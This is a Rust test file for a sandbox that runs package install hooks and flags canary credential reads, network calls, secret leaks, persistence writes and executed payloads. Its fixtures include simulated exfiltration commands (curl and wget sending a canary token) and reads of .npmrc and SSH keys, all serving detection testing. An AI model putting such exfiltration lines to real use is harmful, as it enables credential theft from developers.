use super::*;

fn hook() -> Observation {
    Observation {
        hook: "npm postinstall".into(),
        file: "package.json".into(),
        command: vec!["/bin/sh".into(), "-c".into(), "node x.js".into()],
        ended: Ended::Exited { code: 0 },
        duration_ms: 10,
        setup_ms: 5,
        peak_rss_kib: 1000,
        executed: vec![
            Executed {
                path: "/bin/sh".into(),
                digest: None,
                count: 1,
                written: false,
            },
            Executed {
                path: "/usr/bin/node".into(),
                digest: None,
                count: 1,
                written: false,
            },
        ],
        commands: vec![vec!["node".into(), "x.js".into()]],
        network: Vec::new(),
        canary_reads: Vec::new(),
        writes: Vec::new(),
        output_tail: String::new(),
        opens_watched_by: None,
        recorded: Ok(()),
    }
}

fn report(h: Observation) -> Report {
    Report {
        canaries: Vec::new(),
        canary_env: Vec::new(),
        time_limit_s: 60,
        memory_limit: 1 << 32,
        write_limit: 1 << 31,
        nothing_to_run: None,
        hooks: vec![h],
    }
}

fn rules(f: &[Finding]) -> Vec<(&str, Severity)> {
    f.iter().map(|f| (f.rule.as_str(), f.severity)).collect()
}

#[test]
fn running_node_python_or_sh_is_not_a_finding() {
    let c = Canaries::from_seed(b"t");
    assert!(judge(&report(hook()), Layout::HOME, &c).is_empty());
}

#[test]
fn canary_reads_network_and_network_tools_deny() {
    let c = Canaries::from_seed(b"t");
    let mut h = hook();
    h.canary_reads.push(CanaryRead {
        canary: ".npmrc".into(),
        path: "/home/user/.npmrc".into(),
        program: "/usr/bin/node".into(),
        count: 1,
    });
    h.network.push(NetAttempt {
        family: "inet".into(),
        address: "203.0.113.7".into(),
        port: 443,
        program: "/usr/bin/node".into(),
        count: 1,
    });
    h.network.push(NetAttempt {
        family: "unix".into(),
        address: "/var/run/nscd/socket".into(),
        port: 0,
        program: "/usr/bin/node".into(),
        count: 1,
    });
    h.executed.push(Executed {
        path: "/usr/bin/curl".into(),
        digest: None,
        count: 1,
        written: false,
    });
    let f = judge(&report(h), Layout::HOME, &c);
    assert_eq!(
        rules(&f),
        [
            ("dynamic-canary-read", Severity::Deny),
            ("dynamic-network", Severity::Deny),
            ("dynamic-network-local", Severity::Warn),
            ("dynamic-network-tool", Severity::Deny),
        ]
    );
    assert!(f.iter().all(|f| f.source.kind == SourceKind::Dynamic));
    assert!(f[1].message.contains("203.0.113.7:443"), "{}", f[1].message);
}

#[test]
fn canary_values_are_found_plain_hex_and_base64_in_commands_and_writes() {
    let c = Canaries::from_seed(b"t");
    let token = c.files[0].value.clone();
    for text in [
        format!("curl -d t={token} x"),
        format!("x={}", hex::encode(&token)),
        super::canary::tests_base64(&format!("ab{token}cd")),
    ] {
        assert!(c.find(text.as_bytes(), false).is_some(), "{text}");
    }
    assert!(c.find(b"nothing here", true).is_none());
    let env = c.env[0].1.clone();
    assert!(c.find(env.as_bytes(), false).is_none());
    assert!(c.find(env.as_bytes(), true).is_some());
    let mut h = hook();
    h.commands
        .push(vec!["wget".into(), format!("http://x/?{token}")]);
    h.writes.push(Write {
        path: "/home/user/.bashrc".into(),
        in_package: false,
        leak: None,
    });
    h.writes.push(Write {
        path: "/home/user/.cache/x".into(),
        in_package: false,
        leak: None,
    });
    let f = judge(&report(h), Layout::HOME, &c);
    assert_eq!(
        rules(&f),
        [
            ("dynamic-canary-leak", Severity::Deny),
            ("dynamic-write-persistence", Severity::Deny),
            ("dynamic-write-outside", Severity::Warn),
        ]
    );
}

#[test]
fn a_written_program_denies_unless_a_compiler_ran() {
    let c = Canaries::from_seed(b"t");
    let mut h = hook();
    h.executed.push(Executed {
        path: "/tmp/payload".into(),
        digest: None,
        count: 1,
        written: true,
    });
    assert_eq!(
        rules(&judge(&report(h.clone()), Layout::HOME, &c)),
        [("dynamic-exec-written", Severity::Deny)]
    );
    h.executed.insert(
        1,
        Executed {
            path: "/usr/bin/x86_64-linux-gnu-gcc-12".into(),
            digest: None,
            count: 1,
            written: false,
        },
    );
    assert_eq!(
        rules(&judge(&report(h), Layout::HOME, &c)),
        [("dynamic-exec-written", Severity::Warn)]
    );
}

#[test]
fn failures_timeouts_and_missing_toolchains_warn() {
    let c = Canaries::from_seed(b"t");
    for (ended, rule) in [
        (Ended::Exited { code: 1 }, "dynamic-hook-failed"),
        (Ended::TimedOut { limit_s: 5 }, "dynamic-timeout"),
        (Ended::WriteLimit { limit_mib: 2048 }, "dynamic-write-limit"),
        (
            Ended::NotRun {
                reason: "no ruby".into(),
            },
            "dynamic-not-run",
        ),
    ] {
        let mut h = hook();
        h.ended = ended;
        assert_eq!(
            rules(&judge(&report(h), Layout::HOME, &c)),
            [(rule, Severity::Warn)]
        );
    }
    let mut h = hook();
    h.recorded = Err("EBUSY".into());
    assert_eq!(
        rules(&judge(&report(h), Layout::HOME, &c)),
        [("dynamic-unrecorded", Severity::Deny)]
    );
}

#[test]
fn canary_values_are_unique_per_seed() {
    let a = Canaries::from_seed(b"a");
    let b = Canaries::from_seed(b"b");
    assert_ne!(a.files[0].value, b.files[0].value);
    assert!(a.files[0].contents.contains(&a.files[0].value));
    assert!(a.files.iter().any(|f| f.path == ".ssh/id_ed25519"));
}

/// The files of `dir` (relative path → size) and whether every entry, `dir` included,
/// carries `mtime`, found by walking it (as `zt-build`'s `files_before` does).
fn walk(dir: &std::path::Path, mtime: i64) -> (std::collections::BTreeMap<String, u64>, bool) {
    use std::os::unix::fs::MetadataExt as _;
    let mut files = std::collections::BTreeMap::new();
    let mut stamped = fs_err::metadata(dir).unwrap().mtime() == mtime;
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs_err::read_dir(&d).unwrap() {
            let p = e.unwrap().path();
            let m = fs_err::symlink_metadata(&p).unwrap();
            stamped &= m.mtime() == mtime && m.atime() == mtime;
            if m.is_dir() {
                stack.push(p);
            } else {
                let rel = p.strip_prefix(dir).unwrap().to_string_lossy().into_owned();
                files.insert(rel, m.len());
            }
        }
    }
    (files, stamped)
}

/// The one-pass unpack (times, mode and owner set on each file as it is written) is what
/// the intake compares against after each hook instead of walking the tree: what it returns
/// must be exactly what a walk finds, and every file and directory must carry the stamp,
/// or a hook's in-place write that keeps the size would go unseen.
#[test]
fn unpack_finishes_every_file_and_directory_and_lists_what_a_walk_finds() {
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
    let tmp = tempfile::tempdir().unwrap();
    let archive = tmp.path().join("deep-1.0.0.tgz");
    let tar = crate::intake::archive::write_tar(&[
        ("package/package.json", b"{\"name\":\"deep\"}", 0o644),
        ("package/bin/run", b"#!/bin/sh\n", 0o755),
        ("package/lib/a/b/c/d.js", b"1234567", 0o644),
        ("package/lib/a/e.js", b"", 0o644),
        // a later entry of the same path replaces the earlier one
        ("package/lib/a/e.js", b"second", 0o644),
    ]);
    fs_err::write(&archive, crate::intake::archive::gzip(&tar)).unwrap();
    let dest = tmp.path().join("pkg");
    fs_err::create_dir(&dest).unwrap();
    let c = crate::intake::Candidate::new(crate::Ecosystem::Npm, "deep", "1.0.0", &archive);
    let me = fs_err::metadata(tmp.path()).unwrap();
    let finish = Finish {
        mtime: 315_532_800,
        // chown to the ids the files already have: allowed to anyone, and still a call
        owner: Some((me.uid(), me.gid())),
    };
    let listed = unpack(&c, crate::intake::archive::Limits::default(), &dest, finish).unwrap();
    let (found, stamped) = walk(&dest, finish.mtime);
    assert_eq!(listed, found);
    assert_eq!(
        listed.keys().map(String::as_str).collect::<Vec<_>>(),
        ["bin/run", "lib/a/b/c/d.js", "lib/a/e.js", "package.json"]
    );
    assert_eq!(listed["lib/a/e.js"], 6);
    assert!(stamped, "an entry without the stamp");
    let mode = |p: &str| fs_err::metadata(dest.join(p)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode("bin/run"), 0o755);
    assert_eq!(mode("lib/a/b/c/d.js"), 0o644);
}
